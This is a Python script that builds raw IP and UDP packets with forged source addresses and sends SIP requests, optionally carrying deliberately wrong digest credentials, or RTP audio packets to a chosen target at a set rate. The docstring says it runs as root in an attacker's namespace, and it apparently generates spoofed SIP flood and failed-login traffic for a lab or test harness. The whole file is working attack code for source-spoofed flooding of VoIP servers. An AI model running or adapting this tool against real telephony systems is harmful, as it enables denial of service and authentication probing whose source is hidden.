"""Sends SIP requests over UDP from addresses that are not the sender's own, at a rate; run as root in the attacker's namespace.

Reads one JSON order from standard input: sources, sourcePort (0: another one each time), target, port, method (RTP: a packet of
audio instead), count, rate (packets a second), credentials (whether each carries a wrong digest), inTurn (each source once, instead
of any). Prints JSON: sent, seconds.
"""

from __future__ import annotations

import json
import os
import random
import socket
import struct
import sys
import time
from typing import Any


def request(order: dict[str, Any], source: str, port: int, number: int) -> bytes:
    """One request in the name of somebody else."""
    method, target = order["method"], order["target"]
    who = f"<sip:101@{target}>"
    lines = [
        f"{method} sip:101@{target} SIP/2.0",
        f"Via: SIP/2.0/UDP {source}:{port};branch=z9hG4bK{os.urandom(6).hex()};rport",
        "Max-Forwards: 70",
        f"From: {who};tag={number}",
        f"To: {who}",
        f"Call-ID: {os.urandom(8).hex()}",
        f"CSeq: 1 {method}",
        f"Contact: <sip:101@{source}:{port}>",
    ]
    if order.get("credentials"):
        digest = f'username="x",realm="pbx",nonce="1/a",uri="sip:{target}",response="{"0" * 32}",algorithm=MD5'
        lines.append(f"Authorization: Digest {digest}")
    return ("\r\n".join([*lines, "Content-Length: 0"]) + "\r\n\r\n").encode()


def audio(number: int) -> bytes:
    """20 ms of G.711 (RFC 3550, RFC 3551)."""
    return struct.pack("!BBHII", 0x80, 0, number & 0xFFFF, number * 160, 7) + b"\xff" * 160


def packet(order: dict[str, Any], source: str, number: int) -> bytes:
    """With IP and UDP headers; the kernel fills in the IP checksum, and a UDP checksum of 0 means none."""
    port = order["sourcePort"] or random.randrange(1024, 65536)  # noqa: S311 - a port, no secret
    body = audio(number) if order["method"] == "RTP" else request(order, source, port, number)
    datagram = struct.pack("!4H", port, order["port"], 8 + len(body), 0) + body
    ends = socket.inet_aton(source) + socket.inet_aton(order["target"])
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), number & 0xFFFF, 0, 64, 17, 0) + ends + datagram


def main() -> None:
    """Send them all, no faster than asked."""
    order = json.load(sys.stdin)
    started = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as line:
        for number in range(order["count"]):
            early = number / order["rate"] - (time.monotonic() - started)
            if early > 0.002:
                time.sleep(early)
            sources = order["sources"]
            source = sources[number % len(sources)] if order.get("inTurn") else random.choice(sources)  # noqa: S311
            line.sendto(packet(order, source, number), (order["target"], 0))
    print(json.dumps({"sent": order["count"], "seconds": round(time.monotonic() - started, 2)}))


main()
